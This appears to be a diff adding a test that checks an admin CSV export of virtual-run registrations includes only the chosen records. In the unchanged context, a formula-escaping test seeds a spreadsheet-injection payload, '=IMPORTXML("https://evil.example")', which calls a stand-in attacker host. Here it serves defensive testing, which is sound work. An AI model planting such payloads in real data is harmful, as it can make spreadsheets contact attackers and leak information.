@@ -112,6 +112,20 @@ it('a change over a newer one is 409 with the present one; a cancelled runner do
   expect((await refusal(run.visitor.getPage({ params: { slug } }))).status).toBe(404);
 });
 
+it('the CSV of chosen registrations has those only (BEY-07)', async () => {
+  const [one] = [await manual({ displayName: 'Chosen' }), await manual({ displayName: 'Left out' })];
+  const csv = (ids: string) =>
+    fetch(`${run.service.url}/admin/virtual-run/registrations.csv?ids=${ids}`, {
+      headers: { authorization: `Bearer ${tokenOf(adminUser)}` },
+    });
+  const text = await (await csv(`${one._id},unknown`)).text();
+
+  expect(text.trimEnd().split('\r\n')).toHaveLength(2);
+  expect(text).toContain('Chosen');
+  expect(text).not.toContain('Left out');
+  expect((await csv(`${one._id},`)).status).toBe(400);
+});
+
 it('the CSV escapes formulas (S36)', async () => {
   await manual({ displayName: '=IMPORTXML("https://evil.example")' });
   const response = await fetch(`${run.service.url}/admin/virtual-run/registrations.csv`, {
